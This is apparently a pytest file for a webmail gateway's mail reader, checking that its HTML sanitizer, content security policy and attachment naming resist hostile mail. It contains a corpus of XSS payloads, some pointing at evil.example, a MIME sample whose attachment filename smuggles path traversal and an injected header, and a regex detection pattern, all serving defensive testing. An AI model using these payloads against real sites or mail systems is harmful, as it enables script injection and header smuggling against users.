"""Reading hostile mail (gateway/owa/reading.py): a corpus of attacks comes out harmless, MIME that is broken
still reads, attachment names cannot inject headers or paths; and any HTML at all comes out without script."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.owa.reading import BODY_CSP, BODY_CSP_IMAGES, clean_html, disposition, read, safe_name

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<svg><script>alert(1)</script><circle onload=alert(1)></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<div style=\"width: expression(alert(1)); background-image: url(javascript:alert(1))\">x</div>",
    "<style>body { background: url(https://tracker.example/p.gif) }</style>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p type=password></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://ok.example\" target=_top>link</a>",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
]
_EVIL = re.compile(r"<\s*(script|iframe|object|embed|form|input|meta|base|link|svg|math|style|template|noscript)\b"
                   r"|\son\w+\s*=|javascript:|data:|expression\(|url\(", re.I)


def test_the_hostile_corpus_comes_out_harmless():
    for attack in HOSTILE:
        cleaned = clean_html(f"<p>before</p>{attack}<p>after</p>")
        assert not _EVIL.search(cleaned), (attack, cleaned)
        assert "before" in cleaned and "after" in cleaned  # the harmless rest is kept
    assert 'rel="noopener noreferrer"' in clean_html('<a href="https://ok.example">x</a>')
    assert "color:red" in clean_html('<span style="color:red; position:fixed">x</span>').replace(" ", "")
    assert "position" not in clean_html('<span style="color:red; position:fixed">x</span>')


def test_tracking_pixels_go_and_real_images_stay():
    cleaned = clean_html('<img src="https://t.example/p.gif" width="1" height="1"><img src="https://t.example/q.gif" '
                         'height="0"><img src="https://x.example/logo.png" width="100" alt="logo">')
    assert "p.gif" not in cleaned and "q.gif" not in cleaned and "logo.png" in cleaned


def test_the_body_frame_policy_allows_no_script_and_no_request():
    assert "script-src" not in BODY_CSP and "default-src 'none'" in BODY_CSP and "img-src 'none'" in BODY_CSP
    assert "sandbox" in BODY_CSP
    assert BODY_CSP_IMAGES == BODY_CSP.replace("img-src 'none'", "img-src https: http: data:")


def test_a_message_reads_with_its_html_body_and_attachments_named_safely():
    raw = (b"From: =?utf-8?q?Zo=C3=AB?= <zoe@example.test>\r\nTo: carol@example.test\r\nSubject: hello\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n"
           b"Content-Type: multipart/alternative; boundary=A\r\n\r\n--A\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
           b"--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p onclick=x()>Hi <img src=http://t.example/p>"
           b"</p><script>x()</script>\r\n--A--\r\n--B\r\nContent-Type: application/pdf\r\n"
           b"Content-Disposition: attachment; filename=\"../../etc/passwd\r\n X-Evil: 1.pdf\"\r\n"
           b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--B--\r\n")
    r = read(raw)
    assert r.subject == "hello" and "Zoë" in r.sender and r.text is None
    assert "Hi" in r.html and "script" not in r.html and "onclick" not in r.html and r.remote_images
    assert len(r.attachments) == 1
    name = r.attachments[0].name
    assert "/" not in name and "\r" not in name and "\n" not in name and name.endswith(".pdf")
    assert r.attachments[0].size == 5
    header = disposition('a"b\r\nX-Evil: 1/ä.txt')
    assert header.startswith("attachment;") and "\r" not in header and "\n" not in header
    assert header.count('"') == 2 and "filename*=UTF-8''" in header


def test_broken_mime_still_reads():
    r = read(b"Subject: =?utf-8?b?!!!?=\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n--\r\ngarbage")
    assert isinstance(r.subject, str) and (r.text is not None or r.html is not None or r.attachments == [])
    r = read(b"\xff\xfe\x00 not mail at all")
    assert isinstance(r.text, str)
    assert safe_name("\x00\x01..") == "attachment"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_html_comes_out_without_script_or_handlers(html):
    cleaned = clean_html(html)
    assert not re.search(r"<\s*script|\son\w+\s*=|javascript:", cleaned, re.I)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600))
def test_any_bytes_read_without_error(raw):
    r = read(raw)
    assert all(isinstance(a.name, str) and a.name for a in r.attachments)
